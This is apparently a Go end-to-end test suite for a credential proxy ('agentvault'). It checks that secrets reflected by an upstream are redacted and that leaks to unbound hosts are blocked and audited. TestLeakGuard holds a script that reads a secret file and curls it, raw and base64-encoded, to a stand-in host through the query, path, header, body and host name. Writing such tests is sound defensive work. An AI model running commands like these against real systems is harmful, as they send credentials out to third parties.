package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestReflectionGuard: a secret the upstream sends back (in a header, in a
// JSON body, in a streamed body split across two writes) reaches the child
// as its placeholder (guard.reflection: redact, the default).
func TestReflectionGuard(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	secret := newSecret(t, "api")
	up := newUpstream(t, true)
	s := runSession(t, sessionOpts{
		config:  apiConfig,
		env:     map[string]string{"TEST_API_TOKEN": secret},
		connect: []string{connectTo("api.example.test", 443, up.Port)},
		script: curlTo("echo", "https://api.example.test/echo/reflect") +
			curlTo("stream", "https://api.example.test/reflect", `-D "$OUT/stream.headers"`),
	})
	if s.code != 0 {
		t.Fatalf("exit %d", s.code)
	}
	ph := s.placeholder(t, "API_TOKEN")
	if got := onlyOne(t, up, "/reflect"); got.Header.Get("Authorization") != "Bearer "+secret {
		t.Fatalf("upstream did not get the secret, nothing to reflect")
	}
	if e := echoed(t, s.response(t, "echo", "200")); e.Header.Get("Authorization") != "Bearer "+ph {
		t.Errorf("JSON body: child saw Authorization %q, want Bearer <placeholder>", redact(e.Header.Get("Authorization"), secret, ph))
	}
	if body := s.response(t, "stream", "200"); body != "token="+ph+" end\n" {
		t.Errorf("streamed body: child saw %q, want token=<placeholder> end", redact(body, secret, ph))
	}
	hdrs := s.file("stream.headers")
	if !strings.Contains(strings.ToLower(hdrs), "x-reflected-token: "+strings.ToLower(ph)) {
		t.Errorf("response header: child saw %q", redact(hdrs, secret, ph))
	}
	for _, path := range []string{"/echo/reflect", "/reflect"} {
		if len(auditFind(s.audit, map[string]any{"path": path, "redacted": true})) != 1 {
			t.Errorf("no audit record for %s with redacted=true:\n%s", path, s.auditRaw)
		}
	}
	if !strings.Contains(strings.ToLower(s.stderr), "redact") {
		t.Errorf("summary does not mention the redactions:\n%s", clip(s.stderr))
	}
	s.assertNoSecret(t, secret)
	s.assertNoPlaceholder(t, ph)
}

// TestLeakGuard: the child knows a real secret (here: it can read the
// credential's file:) and tries to send it to a host not bound to it, in
// every place the proxy can see under egress.inspect: all. Each attempt is
// blocked with 403 and recorded as leak_blocked; clean traffic still flows.
func TestLeakGuard(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	secret := newSecret(t, "leak")
	secretFile := writeFile(t, t.TempDir(), "token", secret+"\n")
	up := newUpstream(t, true)
	plain := newUpstream(t, false)
	cfg := fmt.Sprintf(`version: 1
credentials:
  - name: api
    secret: file:%s
    hosts: [api.example.test]
    inject: bearer
    env: [API_TOKEN]
egress:
  inspect: all
`, secretFile)
	leakHost := secret + ".example.test"
	s := runSession(t, sessionOpts{
		config: cfg,
		env:    map[string]string{"LEAK_FILE": secretFile},
		connect: []string{connectTo("api.example.test", 443, up.Port), connectTo("other.example.test", 443, up.Port),
			connectTo("other.example.test", 80, plain.Port), connectTo(leakHost, 443, up.Port)},
		script: `s=$(cat "$LEAK_FILE")
b=$(printf %s "$s" | base64 | tr -d '\n')
` + curlTo("plain", `http://other.example.test/ok/leak-plain?t='"$s"'`) +
			curlTo("header", "https://other.example.test/ok/leak-header", `-H "X-Token: $s"`) +
			curlTo("query", `https://other.example.test/ok/leak-query?t='"$s"'`) +
			curlTo("path", `https://other.example.test/ok/leak-path/'"$s"'`) +
			curlTo("body", "https://other.example.test/ok/leak-body", `--data-binary "$s"`) +
			curlTo("b64", "https://other.example.test/ok/leak-b64", `--data-binary "token=$b"`) +
			`curl -sS --max-time 20 -o /dev/null -w '%{http_connect}' "https://$s.example.test/ok/leak-name" > "$OUT/name.status" 2> "$OUT/name.err"` + "\n" +
			curlTo("clean", "https://other.example.test/ok/clean") +
			curlTo("wrongph", "https://other.example.test/ok/wrong-placeholder", `-H "X-Token: $API_TOKEN"`),
	})
	if s.code != 0 {
		t.Fatalf("exit %d", s.code)
	}
	ph := s.placeholder(t, "API_TOKEN")
	for _, name := range []string{"plain", "header", "query", "path", "body", "b64"} {
		if got := strings.TrimSpace(s.file(name + ".status")); got != "403" {
			t.Errorf("leak via %s: status %q, want 403", name, got)
		}
	}
	if got := strings.TrimSpace(s.file("name.status")); got != "403" {
		t.Errorf("leak via the CONNECT host name: CONNECT status %q, want 403", got)
	}
	for _, r := range append(up.requests(), plain.requests()...) {
		if !strings.Contains(r.Path, "leak") && !strings.Contains(r.Host, secret) {
			continue
		}
		what := redact(r.Method+" "+r.Host+r.Path, secret, ph)
		carried := strings.Contains(r.Host+r.Path+r.RawQuery+fmt.Sprint(r.Header), secret)
		for _, form := range []string{secret, b64(secret)} {
			carried = carried || strings.Contains(r.Body, form)
		}
		switch {
		case carried:
			t.Errorf("leak attempt reached the upstream WITH the secret: %s", what)
		case r.BodyErr != "":
			// Headers went out, then the proxy cut the body before the
			// secret: the upstream never got a complete request.
			t.Logf("blocked mid-body (upstream read error %q): %s", r.BodyErr, what)
		default:
			t.Errorf("a blocked request was delivered to the upstream (without the secret): %s, body %q", what, r.Body)
		}
	}
	if n := len(auditFind(s.audit, map[string]any{"action": "leak_blocked"})); n < 7 {
		t.Errorf("%d leak_blocked records, want 7:\n%s", n, strings.ReplaceAll(s.auditRaw, secret, "<secret>"))
	}
	s.response(t, "clean", "200")
	s.response(t, "wrongph", "200")
	recs := auditFind(s.audit, map[string]any{"path": "/ok/wrong-placeholder"})
	if len(recs) != 1 || fmt.Sprint(recs[0]["warning"]) == "" {
		t.Errorf("placeholder sent to other.example.test: want one record with a warning, got %v", recs)
	}
	if got := onlyOne(t, up, "/ok/wrong-placeholder"); got.Header.Get("X-Token") != ph {
		t.Errorf("wrong host got X-Token %q, want the placeholder untouched", redact(got.Header.Get("X-Token"), secret, ph))
	}
	for where, text := range map[string]string{"stdout": s.stdout, "stderr": s.stderr, "audit log": s.auditRaw} {
		for _, form := range secretForms(secret) {
			if strings.Contains(text, form) {
				t.Errorf("agentvault %s holds the secret", where)
			}
		}
	}
	s.assertNoPlaceholder(t, ph)
	if _, err := os.Stat(filepath.Join(s.out, "env.txt")); err != nil {
		t.Error("child did not run")
	}
}
